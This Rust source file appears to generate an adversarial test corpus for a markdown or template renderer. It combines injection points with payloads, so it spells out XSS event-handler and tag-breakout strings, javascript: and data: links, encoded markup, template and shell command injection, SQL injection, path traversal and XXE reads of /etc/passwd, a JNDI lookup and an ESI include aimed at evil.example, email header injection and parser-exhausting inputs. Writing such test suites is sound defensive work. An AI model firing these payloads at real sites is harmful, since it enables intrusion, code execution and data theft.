//! More than a thousand hostile lines, made by crossing the ways in with the things done there. Every line that could
//! run in a browser calls `pwn()`.

use std::collections::BTreeSet;

/// Every line, each once, in a fixed order.
pub(crate) fn lines() -> Vec<String> {
    let families =
        [handlers(), breakouts(), links(), encodings(), templates(), formats(), hidden_letters(), shapes()];
    let mut seen = BTreeSet::new();
    families.into_iter().flatten().filter(|line| seen.insert(line.clone())).collect()
}

/// Elements that call their handlers without being asked.
fn handlers() -> Vec<String> {
    const ELEMENTS: [&str; 16] = [
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "details open",
        "iframe src=x",
        "input autofocus",
        "select autofocus",
        "textarea autofocus",
        "marquee",
        "object data=x",
        "embed src=x",
        "link rel=stylesheet href=x",
        "a id=x tabindex=1",
        "x contenteditable autofocus",
    ];
    const HANDLERS: [&str; 9] = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onanimationstart",
        "onbegin",
        "onpageshow",
        "onpointerenter",
    ];
    const QUOTES: [(&str, &str); 4] = [("\"", "\""), ("'", "'"), ("", ""), ("`", "`")];
    let mut lines = Vec::new();
    for element in ELEMENTS {
        for handler in HANDLERS {
            for (open, close) in QUOTES {
                lines.push(format!("<{element} {handler}={open}pwn(){close}>"));
            }
            lines.push(format!("<{}/{handler}=pwn()//", element.replace(' ', "/")));
        }
    }
    lines
}

/// Ends of everything that a text can be inside, then something that runs.
fn breakouts() -> Vec<String> {
    const ENDS: [&str; 20] = [
        "\"",
        "'",
        "`",
        "\">",
        "'>",
        "\"/>",
        "</title>",
        "</style>",
        "</script>",
        "</textarea>",
        "</noscript>",
        "-->",
        "--!>",
        "]]>",
        "</svg>",
        "</time>",
        "</a>",
        "</template>",
        "\\\"",
        "\\u0022>",
    ];
    const RUNS: [&str; 7] = [
        "<script>pwn()</script>",
        "<SCRIPT/x>pwn()</SCRIPT>",
        "<img src=x onerror=pwn()>",
        "<svg onload=pwn()>",
        " onfocus=pwn() autofocus ",
        " style=animation-name:x onanimationstart=pwn() ",
        "<base href=//evil.example/>",
    ];
    ENDS.iter().flat_map(|end| RUNS.iter().map(move |run| format!("{end}{run}"))).collect()
}

/// Addresses that run, in every form markdown has for a link.
fn links() -> Vec<String> {
    const ADDRESSES: [&str; 22] = [
        "javascript:pwn()",
        "JaVaScRiPt:pwn()",
        "java\tscript:pwn()",
        "java&#x0a;script:pwn()",
        "&#x6a;avascript:pwn()",
        "&#106;avascript:pwn()",
        "javascript&colon;pwn()",
        "javascript&#58;pwn()",
        "\u{1}javascript:pwn()",
        " javascript:pwn()",
        "data:text/html,<script>pwn()</script>",
        "Data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
        "vbscript:pwn()",
        "feed:javascript:pwn()",
        "view-source:javascript:pwn()",
        "blob:https://evil.example/x",
        "file:///etc/passwd",
        "//evil.example/x",
        "javascript://%0apwn()",
        "jav\u{ad}ascript:pwn()",
        "%6aavascript:pwn()",
        "https://x\" onclick=\"pwn()",
    ];
    let form = |address: &str| {
        [
            format!("[x]({address})"),
            format!("[x](<{address}>)"),
            format!("![x]({address})"),
            format!("<{address}>"),
            format!("[x][y]\n\n[y]: {address} \"pwn()\""),
            address.to_owned(),
        ]
    };
    ADDRESSES.iter().flat_map(|address| form(address)).collect()
}

/// Markup spelt so that one decoding too many brings it to life.
fn encodings() -> Vec<String> {
    const RUNS: [&str; 4] =
        ["<script>pwn()</script>", "<img src=x onerror=pwn()>", "\"><svg onload=pwn()>", "'-pwn()-'"];
    let each =
        |text: &str, spell: &dyn Fn(u32) -> String| text.chars().map(|c| spell(c as u32)).collect::<String>();
    let mut lines = Vec::new();
    for run in RUNS {
        lines.push(each(run, &|c| format!("&#{c};")));
        lines.push(each(run, &|c| format!("&#{c:07}")));
        lines.push(each(run, &|c| format!("&#x{c:x};")));
        lines.push(each(run, &|c| format!("%{c:02x}")));
        lines.push(each(run, &|c| format!("%25{c:02x}")));
        lines.push(each(run, &|c| format!("\\u{c:04x}")));
        lines.push(each(run, &|c| format!("\\x{c:02x}")));
        lines.push(each(run, &|c| format!("\\{c:o}")));
        lines.push(each(run, &|c| {
            char::from_u32(if (0x21..0x7f).contains(&c) { c + 0xfee0 } else { c }).unwrap().into()
        }));
        lines.push(run.replace('<', "&lt;").replace('>', "&gt;"));
        lines.push(run.replace('<', "&amp;lt;").replace('>', "&amp;gt;"));
        lines.push(run.replace('<', "+ADw-").replace('>', "+AD4-"));
        lines.push(run.replace('<', "\u{2039}").replace('>', "\u{203a}"));
        lines.push(run.replace('<', "%c0%bc").replace('>', "%c0%be"));
    }
    lines
}

/// What template engines, shells and spreadsheets would run.
fn templates() -> Vec<String> {
    [
        "{{ 7*7 }}",
        "{{7*'7'}}",
        "{% include \"layout.html\" %}",
        "{% include \"/etc/passwd\" %}",
        "{{ get_env(name='HOME') }}",
        "{{ __tera_context }}",
        "{{ self }}",
        "{% for x in range(end=9) %}pwn{% endfor %}",
        "{%- raw -%}",
        "{% endraw %}",
        "{% endblock %}",
        "{# pwn #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "<?php pwn() ?>",
        "<?= 7*7 ?>",
        "${{7*7}}",
        "@(7*7)",
        "[[${7*7}]]",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "=HYPERLINK(\"javascript:pwn()\")",
        "@SUM(1+1)",
        "{time 2026-11-20T11:30Z\" onload=\"pwn()}",
        "{time <script>}",
        "{time}",
        "<!--#exec cmd=\"id\" -->",
        "<esi:include src=\"http://evil.example/\"/>",
        "${jndi:ldap://evil.example/x}",
        "../../../../etc/passwd",
        "..\\..\\win.ini",
        "'; DROP TABLE step; --",
        "1 OR 1=1",
    ]
    .map(str::to_owned)
    .into()
}

/// Lines that mean something in mail, calendars, feeds, JSON and HTTP, with every kind of line break.
fn formats() -> Vec<String> {
    const MEANINGS: [&str; 14] = [
        "Bcc: eve@evil.example",
        "END:VEVENT",
        "BEGIN:VEVENT",
        "UID:evil",
        "END:VCALENDAR",
        "ATTACH:javascript:pwn()",
        "Content-Type: text/html",
        "MAIL FROM:<eve@evil.example>",
        ".",
        "QUIT",
        "--boundary--",
        "HTTP/1.1 200 OK",
        "]]></content><script>pwn()</script>",
        "<entry><title>pwn()</title></entry>",
    ];
    const BREAKS: [&str; 8] = ["\r\n", "\n", "\r", "\u{85}", "\u{2028}", "\u{2029}", "\\n", "%0d%0a"];
    let mut lines: Vec<String> = BREAKS
        .iter()
        .flat_map(|break_| MEANINGS.iter().map(move |meaning| format!("x{break_}{meaning}{break_}x")))
        .collect();
    lines.extend(
        [
            "\",\"level\":\"none\",\"x\":\"",
            "\\\",\"x\":[",
            "</script><!--",
            "\\",
            "\"",
            "'",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
            "<![CDATA[<script>pwn()</script>]]>",
            "=?utf-8?q?=0d=0aBcc:_eve=40evil.example?=",
            "x;X=\"1\",y",
            "+++",
            "---",
            "## 2026-11-20 10:05 UTC · Resolved",
        ]
        .map(str::to_owned),
    );
    lines
}

/// Letters nobody sees, in the middle of markup and at both ends of a text.
fn hidden_letters() -> Vec<String> {
    let controls = (0..0x20).chain(0x7f..0xa0);
    let marks = (0x200b..0x2010)
        .chain(0x202a..0x202f)
        .chain(0x2060..0x206a)
        .chain([0xad, 0x34f, 0xfeff, 0xfffe, 0xffff, 0xfff9, 0xe0001]);
    controls
        .chain(marks)
        .filter_map(char::from_u32)
        .map(|c| format!("{c}<scr{c}ipt>pwn(){c}</script>{c}"))
        .collect()
}

/// Shapes that cost a parser dear.
fn shapes() -> Vec<String> {
    vec![
        "[".repeat(2_000),
        "*".repeat(2_000),
        "> ".repeat(500),
        "<".repeat(2_000),
        "![".repeat(500),
        "`".repeat(999),
        "a".repeat(5_000),
        "\u{301}".repeat(500),
        "🏴\u{e0067}\u{e0062}\u{e007f}".repeat(50),
        "| a ".repeat(200),
    ]
}
